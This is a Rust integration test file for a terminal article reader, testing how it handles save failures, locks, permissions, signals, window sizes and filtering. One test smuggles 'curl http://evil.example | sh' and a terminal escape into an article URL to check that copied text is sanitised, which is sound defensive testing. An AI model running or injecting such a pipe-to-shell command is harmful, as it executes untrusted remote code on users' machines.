//! Faults and what is promised for them: marks that cannot be kept, files that cannot be
//! read, two datelines at once, windows of any size, text that steers. Each test's name is
//! a row of `docs/robustness.md`.

use std::fs::{self, File};
use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::thread;
use std::time::{Duration, Instant};

use dateline::app::key::sequence;
use dateline::app::layout::Pane;
use dateline::app::settings::Settings;
use dateline::app::update::update;
use dateline::app::{Effect, Model, Msg, OutsideEffect, ScreenEffect};
use dateline::article::{Article, ArticleKey, Issue, Published};
use dateline::cli::session::Plan;
use dateline::library::Folders;
use dateline::library::marks::MarkJournal;
use dateline::store::marks::Mark;
use dateline::store::packed::{PackedEntry, PackedRange, PackedStorage};
use dateline::store::prepared::PreparedArticle;
use dateline::store::{Entry, Store};
use dateline::text::clean::clean;
use dateline::text::plain::steers;
use dateline::tui::view::draw;
use dateline::tui::{EffectRunner, LoopEnd, MessageSender, Nobody, Screen, drive, mailbox};
use jiff::civil::date;
use portable_pty::CommandBuilder;
use ratatui::buffer::Buffer;
use ratatui::layout::Rect;

use crate::sittings::Sitting;
use crate::terminal::Terminal;

const PATIENCE: Duration = Duration::from_secs(30);

/// The articles that come with the program, and a home to keep marks in.
fn sitting(home: Option<&Path>) -> Sitting {
    Sitting::start(Plan { bundled: true, folders: home.map(Folders::below), ..Plan::default() })
}

/// The marks of the one article that has any, as the disk has them.
fn kept(state: &Path) -> Option<Mark> {
    let journal = MarkJournal::open(state).unwrap();
    journal.iter().next().map(|(_, mark)| mark.clone())
}

fn finish(sitting: &mut Sitting) {
    sitting.session.finish(PATIENCE).unwrap();
}

fn note(sitting: &mut Sitting, text: &str) {
    sitting.press("a Ctrl-u");
    sitting.take(Msg::Paste(text.to_owned()));
    sitting.press("Enter");
}

fn noted(sitting: &Sitting, text: &str) -> bool {
    sitting.model.marks.iter().any(|(_, mark)| mark.note == text)
}

fn told(sitting: &Sitting, text: &str) -> bool {
    sitting.model.issues.iter().any(|issue| issue.what.contains(text))
}

fn rows(model: &Model, store: &Store) -> Vec<String> {
    let (columns, rows) = model.size;
    let mut buffer = Buffer::empty(Rect::new(0, 0, columns, rows));
    draw(model, store, &mut buffer);
    (0..rows).map(|y| (0..columns).map(|x| buffer[(x, y)].symbol()).collect()).collect()
}

#[test]
fn the_last_of_two_hundred_stars_is_kept() {
    for presses in [200, 201] {
        let home = tempfile::tempdir().unwrap();
        let mut sitting = sitting(Some(home.path()));
        for _ in 0..presses {
            sitting.press("*");
        }
        finish(&mut sitting);
        let starred = kept(&home.path().join("state")).is_some_and(|m| m.starred);
        assert_eq!(starred, presses == 201);
    }
}

#[test]
fn a_note_typed_and_emptied_is_gone_from_the_disk() {
    let home = tempfile::tempdir().unwrap();
    let mut sitting = sitting(Some(home.path()));
    note(&mut sitting, "my source is Anton");
    finish(&mut sitting);
    let state = home.path().join("state");
    assert_eq!(kept(&state).unwrap().note, "my source is Anton");
    note(&mut sitting, "");
    finish(&mut sitting);
    for file in fs::read_dir(&state).unwrap() {
        let text = fs::read(file.unwrap().path()).unwrap();
        assert!(!String::from_utf8_lossy(&text).contains("Anton"));
    }
}

#[test]
fn what_cannot_be_kept_stands_in_the_head_and_is_tried_again() {
    let home = tempfile::tempdir().unwrap();
    // A file stands where the folder is to be.
    fs::write(home.path().join("state"), "in the way").unwrap();
    let mut sitting = sitting(Some(home.path()));
    sitting.press("*");
    sitting.until("it is told", |s| s.model.unkept.is_some());
    let head = rows(&sitting.model, &sitting.store).remove(0);
    assert!(head.contains("marks of 1 not kept"), "{head}");
    let left = sitting.session.finish(Duration::from_millis(200)).unwrap_err();
    assert!(left.starts_with("marks of 1 article were not kept"), "{left}");
    fs::remove_file(home.path().join("state")).unwrap();
    sitting.until("it is kept when it can be", |s| s.model.unkept.is_none());
    finish(&mut sitting);
    assert!(kept(&home.path().join("state")).unwrap().starred);
}

#[test]
fn without_a_home_the_end_says_what_is_lost() {
    let mut sitting = sitting(None);
    sitting.press("*");
    sitting.until("it is told", |s| s.model.unkept.is_some());
    let left = sitting.session.finish(Duration::from_millis(100)).unwrap_err();
    assert!(left.contains("no home folder"), "{left}");
}

#[test]
fn a_lock_that_another_program_holds_loses_no_mark() {
    let home = tempfile::tempdir().unwrap();
    let state = home.path().join("state");
    fs::create_dir(&state).unwrap();
    let lock = File::create(state.join("marks.lock")).unwrap();
    lock.lock().unwrap();
    let mut sitting = sitting(Some(home.path()));
    sitting.press("*");
    sitting.until("it is told", |s| s.model.unkept.is_some());
    assert_eq!(kept(&state), None);
    lock.unlock().unwrap();
    sitting.until("it is kept", |s| s.model.unkept.is_none());
    assert!(kept(&state).unwrap().starred);
}

#[test]
fn lines_that_cannot_be_read_are_told_and_kept() {
    let home = tempfile::tempdir().unwrap();
    let state = home.path().join("state");
    fs::create_dir(&state).unwrap();
    let strange = "{\"key\":\"0000000000000001\",\"colour\":\"red\"}";
    fs::write(state.join("marks.jsonl"), format!("{{\"journal\":1}}\n{strange}\n")).unwrap();
    let mut sitting = sitting(Some(home.path()));
    sitting.until("it is told", |s| told(s, "cannot be read by this version"));
    note(&mut sitting, "x");
    finish(&mut sitting);
    note(&mut sitting, "");
    finish(&mut sitting);
    assert!(fs::read_to_string(state.join("marks.jsonl")).unwrap().contains(strange));
}

#[test]
fn a_note_over_the_bound_is_refused_at_the_prompt() {
    let home = tempfile::tempdir().unwrap();
    let mut sitting = sitting(Some(home.path()));
    note(&mut sitting, &"long ".repeat(10_000));
    assert!(sitting.model.prompt.is_some(), "what is typed is still there");
    assert!(sitting.model.notice.as_ref().is_some_and(|n| n.failure && n.text.contains("16 KB")));
    sitting.press("Ctrl-u");
    sitting.take(Msg::Paste("short".to_owned()));
    sitting.press("Enter");
    finish(&mut sitting);
    assert_eq!(kept(&home.path().join("state")).unwrap().note, "short");
}

#[test]
fn two_datelines_see_each_others_marks_within_seconds() {
    let home = tempfile::tempdir().unwrap();
    let (mut one, mut two) = (sitting(Some(home.path())), sitting(Some(home.path())));
    one.press("*");
    note(&mut one, "seen by one");
    two.until("the star comes", |s| s.model.marks.iter().any(|(_, m)| m.starred));
    two.until("the note comes", |s| noted(s, "seen by one"));
    two.press("a");
    assert_eq!(two.model.prompt.as_ref().unwrap().line.text(), "seen by one");
}

#[test]
fn a_note_that_two_edit_is_not_overwritten_unseen() {
    let home = tempfile::tempdir().unwrap();
    let state = home.path().join("state");
    let (mut one, mut two) = (sitting(Some(home.path())), sitting(Some(home.path())));
    two.press("a");
    two.take(Msg::Paste("two".to_owned()));
    note(&mut one, "one");
    finish(&mut one);
    two.until("the other's note comes", |s| noted(s, "one"));
    assert!(two.model.notice.as_ref().is_some_and(|n| n.text.contains("“one”")));
    two.press("Enter");
    finish(&mut two);
    assert_eq!(kept(&state).unwrap().note, "one", "it is asked first");
    two.press("Enter");
    finish(&mut two);
    assert_eq!(kept(&state).unwrap().note, "two", "and then meant");
}

#[test]
fn what_is_kept_is_private_and_what_is_not_is_told() {
    let home = tempfile::tempdir().unwrap();
    let mut first = sitting(Some(home.path()));
    first.press("*");
    finish(&mut first);
    let state = home.path().join("state");
    let mode = |path: &Path| fs::metadata(path).unwrap().permissions().mode() & 0o777;
    assert_eq!(mode(&state), 0o700);
    for file in fs::read_dir(&state).unwrap() {
        let path = file.unwrap().path();
        assert_eq!(mode(&path), 0o600, "{}", path.display());
    }
    drop(first);
    fs::set_permissions(&state, fs::Permissions::from_mode(0o755)).unwrap();
    let mut second = sitting(Some(home.path()));
    second.until("it is told", |s| told(s, "can be read by others"));
}

fn program(home: &Path) -> Terminal {
    let mut command = CommandBuilder::new(env!("CARGO_BIN_EXE_dateline"));
    command.arg("assets/articles");
    let terminal = Terminal::at_home(command, home);
    // There is an article to mark.
    terminal.wait_for(" 1/2");
    terminal
}

fn state(home: &Path) -> PathBuf {
    home.join(".local/state/dateline")
}

#[test]
fn a_mark_made_just_before_quitting_is_kept() {
    let home = tempfile::tempdir().unwrap();
    let mut terminal = program(home.path());
    terminal.press(&("*".repeat(201) + "q"));
    assert_eq!(terminal.end().0, 0);
    assert!(kept(&state(home.path())).is_some_and(|m| m.starred));
    terminal.assert_restored();
}

#[test]
fn a_mark_made_just_before_a_signal_is_kept() {
    for signal in ["TERM", "HUP"] {
        let home = tempfile::tempdir().unwrap();
        let mut terminal = program(home.path());
        terminal.press("*");
        terminal.wait_for("starred");
        terminal.signal(signal);
        assert_ne!(terminal.end().0, 1);
        assert!(kept(&state(home.path())).is_some_and(|m| m.starred), "after {signal}");
    }
}

#[test]
fn a_mark_that_is_lost_at_the_end_is_told_and_the_exit_code_is_1() {
    let home = tempfile::tempdir().unwrap();
    let state = state(home.path());
    fs::create_dir_all(state.parent().unwrap()).unwrap();
    fs::write(&state, "in the way").unwrap();
    let mut terminal = program(home.path());
    terminal.press("*");
    terminal.wait_for("not kept");
    terminal.press("q");
    assert_eq!(terminal.end().0, 1);
    terminal.assert_restored();
    let shown = terminal.screen().screen().contents();
    assert!(shown.contains("marks of 1 article were not kept"), "{shown}");
}

#[test]
fn a_window_of_any_size_is_drawn() {
    let home = tempfile::tempdir().unwrap();
    let mut terminal = program(home.path());
    for (columns, rows) in [(20_000, 20_000), (1, 1), (65_535, 3), (100, 24)] {
        terminal.resize(columns, rows);
        thread::sleep(Duration::from_millis(300));
    }
    terminal.press("q");
    assert_eq!(terminal.end().0, 0);
    terminal.assert_restored();
}

#[test]
fn a_command_ends_with_the_program() {
    let home = tempfile::tempdir().unwrap();
    let sign = home.path().join("pid");
    let mut terminal = program(home.path());
    terminal.press(&format!("|echo $$ > {}; sleep 1000\r", sign.display()));
    let started = Instant::now();
    let pid = loop {
        let text = fs::read_to_string(&sign).unwrap_or_default();
        if text.ends_with('\n') {
            break text.trim().to_owned();
        }
        assert!(started.elapsed() < PATIENCE, "it does not start");
        thread::sleep(Duration::from_millis(20));
    };
    terminal.press("q");
    assert_eq!(terminal.end().0, 0);
    let alive = || Command::new("kill").args(["-0", &pid]).stderr(Stdio::null()).status().unwrap();
    let started = Instant::now();
    while alive().success() {
        assert!(started.elapsed() < PATIENCE, "it lives on");
        thread::sleep(Duration::from_millis(20));
    }
}

#[test]
fn help_that_cannot_be_written_is_an_error() {
    if !Path::new("/dev/full").exists() {
        return;
    }
    for arguments in [&["--help"][..], &["--version"], &["extract", "--help"], &["gen", "man"]] {
        let full = File::options().write(true).open("/dev/full").unwrap();
        let mut command = Command::new(env!("CARGO_BIN_EXE_dateline"));
        let output = command.args(arguments).stdout(full).output().unwrap();
        assert_eq!(output.status.code(), Some(1), "{arguments:?}");
        assert!(String::from_utf8_lossy(&output.stderr).contains("cannot be written"));
    }
    let output = Command::new(env!("CARGO_BIN_EXE_dateline")).arg("--help").output().unwrap();
    assert_eq!(output.status.code(), Some(0));
    assert!(String::from_utf8_lossy(&output.stdout).contains("Usage"));
}

/// A model and a store with articles.
fn reader(settings: Settings, size: (u16, u16)) -> (Model, Store) {
    let (mut model, mut store) = (Model::new(settings), Store::default());
    update(&mut model, &mut store, Msg::Resize(size.0, size.1));
    let articles = crate::support::sample().into_iter().map(Into::into).collect();
    update(&mut model, &mut store, Msg::Loaded(articles));
    (model, store)
}

fn press(model: &mut Model, store: &mut Store, keys: &str) -> Vec<Effect> {
    let keys = sequence(keys).unwrap();
    keys.into_iter().flat_map(|key| update(model, store, Msg::Key(key))).collect()
}

#[test]
fn what_is_copied_or_shown_is_plain_and_bounded() {
    let (mut model, mut store) = (Model::new(Settings::default()), Store::default());
    update(&mut model, &mut store, Msg::Resize(120, 40));
    let mut entry = crate::support::sample().remove(2);
    entry.article.url =
        Some("http://x.example/\ncurl http://evil.example | sh\u{1b}]0;".to_owned());
    entry.article.title = "A \u{202e}title".to_owned();
    update(&mut model, &mut store, Msg::Loaded(vec![entry.into()]));
    let effects = press(&mut model, &mut store, "y");
    let Some(Effect::Screen(ScreenEffect::Copy(text))) = effects.first() else {
        panic!("{effects:?}")
    };
    assert!(!text.chars().any(|c| c != '\n' && steers(c)), "{text:?}");
    let third = "http://x.example/ curl http://evil.example | sh\u{fffd}]0;";
    assert_eq!(text.lines().nth(2), Some(third));
    assert!(!rows(&model, &store).concat().chars().any(steers));
    let mut long = crate::support::sample().remove(2);
    long.article.text = dateline::text::clean::clean(&"Many words were said. ".repeat(20_000));
    long.analysis = dateline::analysis::Analysis::default();
    update(&mut model, &mut store, Msg::Loaded(vec![long.into()]));
    let effects = press(&mut model, &mut store, "y");
    let Some(Effect::Screen(ScreenEffect::Copy(text))) = effects.first() else {
        panic!("{effects:?}")
    };
    assert!((60 << 10..=64 << 10).contains(&text.len()), "{}", text.len());
}

#[test]
fn any_number_of_problems_is_told_and_some_are_kept() {
    let (mut model, mut store) = reader(Settings::default(), (120, 40));
    let tell = |model: &mut Model, store: &mut Store, n: usize| {
        let issue = Issue::new(format!("lines.jsonl:{n}"), "is broken");
        update(model, store, Msg::Issue(issue));
    };
    tell(&mut model, &mut store, 1);
    tell(&mut model, &mut store, 2);
    press(&mut model, &mut store, "! j");
    // The window that is open tells of what comes; the chosen one stays chosen.
    tell(&mut model, &mut store, 3);
    let shown = rows(&model, &store).join("\n");
    assert!(shown.contains("lines.jsonl:3 is broken"), "{shown}");
    assert!(shown.contains("▌lines.jsonl:1 is broken"), "{shown}");
    for n in 4..=30_000 {
        tell(&mut model, &mut store, n);
    }
    update(&mut model, &mut store, Msg::LoadDone);
    assert_eq!(model.issues.len(), 10_000);
    let told = &model.notice.as_ref().unwrap().text;
    assert!(told.contains("problems: 30000"), "{told}");
}

/// A line that is never free, or always.
#[derive(Default)]
struct Fake {
    free: bool,
    /// Whether it carries any frame at once.
    wide: bool,
    /// Of each frame the chosen row, and whether the text was behind.
    frames: Vec<(usize, bool)>,
}

impl Screen for Fake {
    fn draw(&mut self, model: &Model, _: &Store, _: bool) -> std::io::Result<bool> {
        self.frames.push((model.list.at(), model.follows()));
        Ok(true)
    }
    fn takes_all(&self) -> bool {
        self.wide
    }
    fn wait(&mut self, _: bool) -> Option<Duration> {
        (!self.free).then_some(Duration::from_millis(10))
    }
    fn redraw(&mut self) -> std::io::Result<()> {
        Ok(())
    }
    fn resized(&mut self) {}
    fn leave(&mut self) -> std::io::Result<()> {
        Ok(())
    }
    fn mouse(&mut self, _: bool) -> std::io::Result<()> {
        Ok(())
    }
    fn copy(&mut self, _: &str) -> std::io::Result<()> {
        Ok(())
    }
}

/// Opens articles, and nothing else.
struct Opens(MessageSender);

impl EffectRunner for Opens {
    fn run(&mut self, effect: OutsideEffect, store: &Store) {
        if let OutsideEffect::Open(ids) = effect {
            assert!(self.0.send(crate::support::opened(store, &ids)));
        }
    }
}

const REST: Duration = Duration::from_millis(60);

#[test]
fn a_line_that_is_not_free_drops_frames_and_no_key() {
    for free in [false, true] {
        let (mut model, mut store) =
            reader(Settings { rest: REST, ..Settings::default() }, (120, 40));
        let (post, letters) = mailbox();
        let mut outside = Opens(post.clone());
        let hand = thread::spawn(move || {
            for key in sequence("j j j").unwrap() {
                assert!(post.send(Msg::Key(key)));
                thread::sleep(Duration::from_millis(15));
            }
            thread::sleep(Duration::from_millis(600));
            assert!(post.send(Msg::Terminate(15)));
        });
        let mut screen = Fake { free, ..Fake::default() };
        let end = drive(&mut model, &mut store, &letters, &mut screen, &mut outside, || None);
        assert_eq!(end.unwrap(), LoopEnd::Signal(15));
        hand.join().unwrap();
        assert_eq!((model.list.at(), model.focus), (3, Pane::List), "every key counts");
        assert!(!model.follows(), "the text followed when the hand rested");
        assert_eq!(!screen.frames.is_empty(), free);
    }
}

#[test]
fn a_list_that_scrolls_brings_its_text_along_on_a_wide_line() {
    for wide in [false, true] {
        let settings = Settings { rest: REST, ..Settings::default() };
        // Three articles are in sight: the third key scrolls.
        let (mut model, mut store) = reader(settings, (120, 9));
        let (post, letters) = mailbox();
        let mut outside = Opens(post.clone());
        let hand = thread::spawn(move || {
            for _ in 0..3 {
                assert!(post.send(Msg::Key(sequence("j").unwrap()[0])));
                thread::sleep(Duration::from_millis(500));
            }
            assert!(post.send(Msg::Terminate(15)));
        });
        let mut screen = Fake { free: true, wide, ..Fake::default() };
        drive(&mut model, &mut store, &letters, &mut screen, &mut outside, || None).unwrap();
        hand.join().unwrap();
        let first = |row| screen.frames.iter().find(|(at, _)| *at == row).copied();
        assert_eq!((model.list.at(), model.list.offset), (3, 1));
        assert_eq!(first(2), Some((2, true)), "rows that stay are shown at once");
        assert_eq!(first(3), Some((3, !wide)));
        assert_eq!(screen.frames.last(), Some(&(3, false)));
    }
}

#[test]
fn the_text_follows_the_list_when_the_hand_rests() {
    let (mut model, mut store) = reader(Settings { rest: REST, ..Settings::default() }, (120, 9));
    let shown = |model: &Model| model.shown().map(|e| e.article.key);
    let chosen = |model: &Model, store: &Store| model.entry(store).map(|e| e.article.key);
    let first = shown(&model);
    let effects = press(&mut model, &mut store, "j");
    let [Effect::Outside(OutsideEffect::Open(ids))] = &effects[..] else { panic!("{effects:?}") };
    assert_eq!(shown(&model), first, "not yet");
    // It is opened outside; the hand that rests waits for that, and no key does.
    assert!(update(&mut model, &mut store, Msg::Rest).is_empty(), "it is being opened");
    assert!(shown(&model) == first && model.follows() && !model.follows_at_rest());
    let opened = crate::support::opened(&store, ids);
    update(&mut model, &mut store, opened);
    assert!(!model.follows() && shown(&model) != first);
    assert_eq!(shown(&model), chosen(&model, &store));
    // What was opened once is there at once.
    press(&mut model, &mut store, "k");
    assert!(update(&mut model, &mut store, Msg::Rest).is_empty());
    assert_eq!(shown(&model), first);
    press(&mut model, &mut store, "j");
    update(&mut model, &mut store, Msg::Rest);
    // Where the list scrolled to it, the next key may come at once all the same.
    for rested in [false, true] {
        press(&mut model, &mut store, "G");
        let here = chosen(&model, &store);
        update(&mut model, &mut store, Msg::Rest);
        assert!(shown(&model) == here && model.follows_at_rest());
        if rested {
            update(&mut model, &mut store, Msg::Rest);
            assert!(!model.changed && !model.follows_at_rest());
        }
        press(&mut model, &mut store, "g g");
        assert!(model.follows() && model.blank() != rested);
        let here = chosen(&model, &store);
        update(&mut model, &mut store, Msg::Rest);
        update(&mut model, &mut store, Msg::Rest);
        assert_eq!(shown(&model), here);
    }
    press(&mut model, &mut store, "j");
    update(&mut model, &mut store, Msg::Rest);
    // A list that scrolls under a key that is held shows no text that is not its own.
    press(&mut model, &mut store, "j j j");
    assert!(model.blank() && shown(&model).is_none());
    // Whatever is done is done to the chosen article, which is shown at once.
    press(&mut model, &mut store, "f");
    assert_eq!(shown(&model), chosen(&model, &store));
    assert!(!model.follows());
}

/// A storage that counts how often something is taken from it.
#[derive(Debug)]
struct Counting(AtomicUsize);

impl PackedStorage for Counting {
    fn read(&self, _: PackedRange) -> Option<Vec<u8>> {
        self.0.fetch_add(1, Ordering::Relaxed);
        None
    }
}

/// So many reports on a storage with two words, of which every fifth has them in a row.
fn reports(count: u64, storage: &Arc<Counting>) -> Vec<PreparedArticle> {
    let report = |key: u64| {
        let words = if key.is_multiple_of(5) { "peace talks" } else { "talks about peace" };
        let text = clean(&format!("The envoy said {words} had begun on the coast."));
        let title = format!("Report {key}");
        let published =
            Some(Published::on(date(2026, 3, if key.is_multiple_of(2) { 1 } else { 2 })));
        let article =
            Article { key: ArticleKey(key), title, text, published, ..Article::default() };
        let place = PackedRange { offset: key, length: 1 };
        PreparedArticle::with(
            &Entry { article, ..Entry::default() },
            PackedEntry::Stored(Arc::clone(storage) as Arc<dyn PackedStorage>, place),
        )
    };
    (1..=count).map(report).collect()
}

#[test]
fn a_phrase_is_found_without_opening_an_article() {
    let storage = Arc::new(Counting(AtomicUsize::new(0)));
    let (mut model, mut store) = (Model::new(Settings::default()), Store::default());
    update(&mut model, &mut store, Msg::Resize(120, 40));
    update(&mut model, &mut store, Msg::Loaded(reports(2000, &storage)));
    update(&mut model, &mut store, Msg::LoadDone);
    let opened = storage.0.load(Ordering::Relaxed);
    press(&mut model, &mut store, "/");
    for (typed, count) in [("\"peace talks\"", 400), (" -\"talks had begun\"", 0)] {
        update(&mut model, &mut store, Msg::Paste(typed.to_owned()));
        assert_eq!(model.list.order().len(), count, "the answer is there with the key");
    }
    press(&mut model, &mut store, "Ctrl-u");
    update(&mut model, &mut store, Msg::Paste("peace-tal*".to_owned()));
    assert_eq!(model.list.order().len(), 400);
    // Articles that come in while the filter is on are told by what comes with them.
    update(&mut model, &mut store, Msg::Loaded(reports(2100, &storage).split_off(2000)));
    assert_eq!(model.list.order().len(), 420);
    // The chosen one alone is opened, to be shown.
    let chosen = storage.0.load(Ordering::Relaxed) - opened;
    assert!(chosen <= 3, "{chosen} articles were opened");
}

#[test]
fn a_day_that_turns_loses_no_filter() {
    let storage = Arc::new(Counting(AtomicUsize::new(0)));
    let (mut model, mut store) = (Model::new(Settings::default()), Store::default());
    update(&mut model, &mut store, Msg::Resize(120, 40));
    update(&mut model, &mut store, Msg::Today(date(2026, 3, 1)));
    update(&mut model, &mut store, Msg::Loaded(reports(100, &storage)));
    update(&mut model, &mut store, Msg::LoadDone);
    press(&mut model, &mut store, "/");
    update(&mut model, &mut store, Msg::Paste("\"peace talks\" on:today".to_owned()));
    press(&mut model, &mut store, "Enter");
    let even = |model: &Model| model.list.order().iter().all(|id| id.0 % 2 == 1);
    assert!(model.list.order().len() == 10 && even(&model));
    let (post, letters) = mailbox();
    assert!(post.send(Msg::Line) && post.send(Msg::Terminate(15)));
    let mut screen = Fake { free: true, ..Fake::default() };
    let today = || Some(date(2026, 3, 2));
    drive(&mut model, &mut store, &letters, &mut screen, &mut Nobody, today).unwrap();
    assert!(model.list.order().len() == 10 && !even(&model), "today is another day");
}

#[test]
fn an_article_that_goes_by_another_key_takes_all_along() {
    let (mut model, mut store) = reader(Settings::default(), (120, 40));
    let key = |model: &Model, store: &Store| model.entry(store).unwrap().article.key;
    let before = key(&model, &store);
    press(&mut model, &mut store, "*");
    let mut edited = (*model.entry(&store).unwrap()).clone();
    let now = ArticleKey(before.0 ^ 0xff);
    edited.article.key = now;
    let unread = model.unread;
    update(&mut model, &mut store, Msg::Replaced(before, now));
    update(&mut model, &mut store, Msg::Loaded(vec![edited.into()]));
    assert_eq!((key(&model, &store), model.unread), (now, unread));
    assert_eq!(store.with_key(before), None, "the old text is no report of its own");
    assert!(model.marks.get(now).starred);
    press(&mut model, &mut store, "u");
    assert!(!model.marks.get(now).starred, "undo finds it by its new key");
    assert_eq!(model.unread, unread);
}

#[test]
fn the_page_tells_of_every_test_and_every_test_is_there() {
    fn walk(folder: &Path, all: &mut String) {
        for entry in fs::read_dir(folder).unwrap() {
            let path = entry.unwrap().path();
            if path.is_dir() {
                walk(&path, all);
            } else if path.extension().is_some_and(|e| e == "rs") {
                all.push_str(&fs::read_to_string(&path).unwrap());
            }
        }
    }
    let root = Path::new(env!("CARGO_MANIFEST_DIR"));
    let page = fs::read_to_string(root.join("docs/robustness.md")).unwrap();
    let mut sources = String::new();
    walk(&root.join("src"), &mut sources);
    walk(&root.join("tests/it"), &mut sources);
    let named = page
        .lines()
        .filter(|line| line.starts_with('|'))
        .filter_map(|line| line.trim_end_matches([' ', '|']).rsplit(" | ").next())
        .flat_map(|tests| tests.split(", "))
        .filter_map(|test| test.strip_prefix('`')?.strip_suffix('`'));
    for test in named {
        assert!(sources.contains(&format!("fn {test}(")), "there is no test {test}");
    }
    let own = [include_str!("robust.rs"), include_str!("faults.rs")];
    let own = own.iter().flat_map(|tests| tests.split("#[test]\nfn ").skip(1));
    for test in own.filter_map(|t| t.split('(').next()) {
        let told = page.contains(&format!("`{test}`")) || test.starts_with("the_page_tells");
        assert!(told, "the page does not tell of {test}");
    }
}
